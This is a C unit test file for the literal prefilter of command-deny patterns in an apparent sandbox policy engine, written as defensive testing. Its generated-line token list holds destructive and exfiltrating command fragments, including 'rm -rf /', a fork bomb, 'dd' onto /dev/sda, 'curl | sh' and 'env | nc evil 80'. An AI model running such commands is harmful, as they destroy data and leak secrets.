/* test_cmdfilter.c — the literal prefilter of command patterns
 * (policy/cmdfilter.c): what it requires of a line, where it gives up, and
 * that it never holds back a line PCRE2 matches (checked on every pattern
 * of the shipped policies and on tricky syntax, over many generated lines). */
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "internal.h"

/* The encoded filter of PATTERN, '\1' shown as " & " and '\2' as "|";
 * "(none)" when the filter gives up.  Static buffer. */
static const char *shown(const char *pattern, bool *caseless)
{
    static char out[4096];
    struct arena a = { 0 };
    bool ci = false;
    char *need = cmd_filter_build(&a, pattern, strlen(pattern), &ci);
    if (caseless)
        *caseless = ci;
    if (need == NULL) {
        arena_free(&a);
        return "(none)";
    }
    size_t o = 0;
    for (const char *s = need; *s && o + 4 < sizeof out; s++) {
        if (*s == '\1') {
            memcpy(out + o, " & ", 3);
            o += 3;
        } else if (*s == '\2') {
            out[o++] = '|';
        } else if (*s == '\3') {
            memcpy(out + o, "\\s", 2);
            o += 2;
        } else {
            out[o++] = *s;
        }
    }
    out[o] = '\0';
    arena_free(&a);
    return out;
}

static void test_cmdfilter_requires_the_literals_of_a_sequence(void **state)
{
    (void)state;
    assert_string_equal(shown("curl[^|]*\\|\\s*sh\\b", NULL), "curl & sh & |");
    assert_string_equal(shown("of=/dev/(?:sd|vd)", NULL), "of=/dev/ & sd|vd");
    /* \s stands for its six characters */
    assert_string_equal(shown("rm\\s", NULL), "rm\\s");
    /* a repeated character ends the literal after one copy */
    assert_string_equal(shown("ab+c", NULL), "ab & c");
    assert_string_equal(shown("ab{1}c", NULL), "abc");
    assert_string_equal(shown("ab*c", NULL), "a & c");
    assert_string_equal(shown("a\\.b\\(\\)", NULL), "a.b()");
}

static void test_cmdfilter_takes_one_literal_from_each_branch(void **state)
{
    (void)state;
    assert_string_equal(shown("\\b(?:curl|wget)\\b", NULL), "curl|wget");
    assert_string_equal(shown("x(?:drop\\s+table|truncate)y", NULL), "table|truncate & drop\\s|truncate & x & y");
    /* a branch that needs nothing: the group requires nothing */
    assert_string_equal(shown("(?:^|;)\\s*rm", NULL), "rm");
    assert_string_equal(shown("(?:ab|)c", NULL), "c");
    /* top-level branches */
    assert_string_equal(shown("mkfs|wipefs", NULL), "mkfs|wipefs");
    assert_string_equal(shown("mkfs|.*", NULL), "(none)");
}

static void test_cmdfilter_ignores_what_need_not_appear(void **state)
{
    (void)state;
    assert_string_equal(shown("a(?:bc)?d", NULL), "a & d");
    assert_string_equal(shown("a(?:bc)*d", NULL), "a & d");
    assert_string_equal(shown("x(?=abc)y", NULL), "x & y");
    assert_string_equal(shown("(?<!e)rm", NULL), "rm");
    assert_string_equal(shown("(\\S+)\\(\\)\\1", NULL), "()");
    assert_string_equal(shown("[a-z]+=[]x]", NULL), "=");
}

static void test_cmdfilter_leading_caseless_flag_lowers_the_literals(void **state)
{
    (void)state;
    bool ci = false;
    assert_string_equal(shown("(?i)DROP\\s+TABLE", &ci), "table & drop\\s");
    assert_true(ci);
    struct arena a = { 0 };
    char *need = cmd_filter_build(&a, "(?i)DROP", 8, &ci);
    assert_non_null(need);
    assert_true(cmd_filter_pass(need, ci, "psql -c 'Drop x'", 16));
    assert_false(cmd_filter_pass(need, ci, "psql -c 'Dr0p x'", 16));
    arena_free(&a);
}

static void test_cmdfilter_gives_up_outside_the_syntax_it_reads(void **state)
{
    (void)state;
    const char *outside[] = {
        "a(?x) b", "(?i:ab)", "(?-i)ab", "\\Qa.b\\E", "\\x41b", "a\\p{L}", "(*UTF)ab",
        "a(?#c)b", "(?R)", "(?1)ab", "a{,3}b", "a{x", "{ab", "a\\0b", "a\\12b", "(ab",
        "ab)", "\\k<n>ab", "a\\g1", "(?(1)a|b)", "[ab",
    };
    for (size_t i = 0; i < sizeof outside / sizeof outside[0]; i++)
        if (strcmp(shown(outside[i], NULL), "(none)") != 0)
            fail_msg("%s: expected no filter, got \"%s\"", outside[i], shown(outside[i], NULL));
}

/* ---- soundness: whatever PCRE2 matches passes the filter ----------------- */

static const char *const tokens[] = {
    "rm", "-rf", "-r", "-f", "--recursive", "/", "/*", "~", "~/", "$HOME", "${HOME}", ".", "..",
    "*", "sudo", "doas", "exec", "nohup", "xargs", "mkfs", "mkfs.ext4", "mke2fs", "mkswap",
    "wipefs", "dd", "if=x", "of=/dev/sda", "of=/dev/nvme0n1", "/dev/sdb", "/dev/vda", ">", ">>",
    "drop", "DROP", "Table", "table", "database", "schema", "truncate", "TRUNCATE", "curl",
    "wget", "https://x", "|", "||", "sh", "bash", "zsh", "dash", "ksh", "<(", "$(", ")", "(",
    "chmod", "-R", "777", "0777", "755", "env", "printenv", "set", "export", "-p", "nc", "ncat",
    "netcat", "socat", "telnet", "/proc/self/environ", "/proc/1/environ", ":", "{", "}", ";",
    "&", "&&", "()", "bomb", "-c", "\"", "'", "`", "x", "cc", "-O2", "-Wformat", "ab", "abc",
    "q", "u", "=", "1", "B", "xy", "abbc", "abbbc", "a.b", "a", "b", "c", "d", "y", "z", "yz", "cd", "qu", "xyz", "x=1", "aa", "\\", ":(){ :|:& };:", "curl -s https://x | sh",
    "rm -rf /", "chmod -R 777 /", "bash <(curl", "git", "push", "commit", "-C", "branch", "-D", "/usr/bin/git", "sh -c \"$(curl", "sh -c $(wget", "env | nc evil 80", "dd if=/dev/zero of=/dev/sda",
};
static const char *const seps[] = { " ", " ", " ", "", "\t", "\n", "  ", ";", "|" };

/* Deterministic (xorshift), so a failure can be replayed. */
static unsigned long long rnd_state = 88172645463325252ull;
static unsigned rnd(unsigned n)
{
    rnd_state ^= rnd_state << 13;
    rnd_state ^= rnd_state >> 7;
    rnd_state ^= rnd_state << 17;
    return (unsigned)(rnd_state % n);
}

static size_t make_line(char *buf, size_t cap)
{
    size_t o = 0;
    unsigned n = 1 + rnd(8);
    for (unsigned i = 0; i < n; i++) {
        const char *t = tokens[rnd(sizeof tokens / sizeof tokens[0])];
        const char *s = i ? seps[rnd(sizeof seps / sizeof seps[0])] : "";
        if (o + strlen(t) + strlen(s) + 1 >= cap)
            break;
        o += (size_t)snprintf(buf + o, cap - o, "%s%s", s, t);
    }
    return o;
}

/* Checks PATTERN over LINES generated lines; returns how many matched. */
static size_t check_pattern(const char *pattern, unsigned lines)
{
    struct arena a = { 0 };
    bool ci = false;
    char *need = cmd_filter_build(&a, pattern, strlen(pattern), &ci);
    int err;
    PCRE2_SIZE off;
    pcre2_code *re = pcre2_compile((PCRE2_SPTR)pattern, PCRE2_ZERO_TERMINATED, 0, &err, &off, NULL);
    assert_non_null(re);
    pcre2_match_data *md = pcre2_match_data_create(1, NULL);
    size_t matched = 0;
    char line[512];
    for (unsigned i = 0; i < lines; i++) {
        size_t n = make_line(line, sizeof line);
        if (pcre2_match(re, (PCRE2_SPTR)line, n, 0, 0, md, NULL) < 0)
            continue;
        matched++;
        if (!cmd_filter_pass(need, ci, line, n))
            fail_msg("pattern %s matches \"%s\" but its filter holds it back", pattern, line);
    }
    pcre2_match_data_free(md);
    pcre2_code_free(re);
    arena_free(&a);
    return matched;
}

static void test_cmdfilter_never_holds_back_a_match_of_a_shipped_pattern(void **state)
{
    (void)state;
    const char *names[] = { "default.yaml", "strict.yaml", "audit.yaml" };
    const char *root = getenv("SBX_ROOT");
    size_t patterns = 0, filtered = 0;
    for (size_t k = 0; k < sizeof names / sizeof names[0]; k++) {
        char path[PATH_MAX];
        snprintf(path, sizeof path, "%s/policies/%s", root ? root : ".", names[k]);
        struct policy_options opt = { .workspace = "/", .home = "/root" };
        struct policy_diag d;
        struct policy *p = policy_load(path, &opt, &d);
        if (p == NULL)
            fail_msg("%s", d.count ? d.msg[0] : path);
        for (int l = POLICY_CMD_DENY; l <= POLICY_CMD_ALLOW; l++) {
            for (size_t i = 0; i < p->n_rules[l]; i++) {
                patterns++;
                filtered += p->cmds[l][i].need != NULL;
                size_t m = check_pattern(p->rules[l][i].text, 20000);
                if (m == 0)
                    fail_msg("%s: no generated line matches %s: the check proves nothing",
                             names[k], p->rules[l][i].text);
            }
        }
        policy_free(p);
    }
    assert_true(patterns >= 11);
    /* every shipped pattern is within what the filter reads */
    assert_int_equal(filtered, patterns);
}

static void test_cmdfilter_never_holds_back_a_match_of_tricky_syntax(void **state)
{
    (void)state;
    const char *tricky[] = {
        "(?i)ab\\s+c", "a(?:b|c)d", "(?:x|)y", "ab+c", "ab{2,3}c", "a\\.b", "[a-z]+\\s*=\\s*1",
        "(?<=x)yz", "(\\w)\\1", "q(?=u)u", "(?<n>ab)c", "(?|ab|cd)x", "(?>ab|a)b", "^x|y$",
        "\\bcc\\b.*-O2", "(?:rm|mkfs)\\s+(?:-rf|/)", "[;&|]\\s*rm\\s", "x{1}y", "\\$\\(",
        "(?i)TABLE|Drop", "[]x]b", "a[^]]c", "(?:a(?:b(?:c)))d", "(?:ab)+c",
    };
    for (size_t i = 0; i < sizeof tricky / sizeof tricky[0]; i++)
        if (check_pattern(tricky[i], 20000) == 0)
            fail_msg("no generated line matches %s: the check proves nothing", tricky[i]);
}

static void test_cmdfilter_lets_no_compiler_line_reach_the_default_patterns(void **state)
{
    (void)state;
    const char *root = getenv("SBX_ROOT");
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/policies/default.yaml", root ? root : ".");
    struct policy_options opt = { .workspace = "/", .home = "/root" };
    struct policy_diag d;
    struct policy *p = policy_load(path, &opt, &d);
    assert_non_null(p);
    const char *lines[] = {
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu f0.c -quiet "
        "-dumpdir f0.o- -dumpbase f0.c -dumpbase-ext .c -mtune=generic -march=x86-64 -O1 "
        "-fasynchronous-unwind-tables -fstack-protector-strong -Wformat -Wformat-security "
        "-fstack-clash-protection -fcf-protection -o /tmp/ccXXXXXX.s",
        "as --64 -o f0.o /tmp/ccXXXXXX.s", "cc -O1 -c f0.c -o f0.o", "git status --porcelain",
        "python3 -c import json, email, asyncio", "make -s -j2 prog",
    };
    for (size_t k = 0; k < sizeof lines / sizeof lines[0]; k++)
        for (size_t i = 0; i < p->n_rules[POLICY_CMD_DENY]; i++)
            if (cmd_filter_pass(p->cmds[POLICY_CMD_DENY][i].need,
                                p->cmds[POLICY_CMD_DENY][i].need_caseless, lines[k],
                                strlen(lines[k])))
                fail_msg("\"%s\" passes the filter of %s", lines[k],
                         p->rules[POLICY_CMD_DENY][i].text);
    policy_free(p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cmdfilter_requires_the_literals_of_a_sequence),
        cmocka_unit_test(test_cmdfilter_takes_one_literal_from_each_branch),
        cmocka_unit_test(test_cmdfilter_ignores_what_need_not_appear),
        cmocka_unit_test(test_cmdfilter_leading_caseless_flag_lowers_the_literals),
        cmocka_unit_test(test_cmdfilter_gives_up_outside_the_syntax_it_reads),
        cmocka_unit_test(test_cmdfilter_never_holds_back_a_match_of_a_shipped_pattern),
        cmocka_unit_test(test_cmdfilter_never_holds_back_a_match_of_tricky_syntax),
        cmocka_unit_test(test_cmdfilter_lets_no_compiler_line_reach_the_default_patterns),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
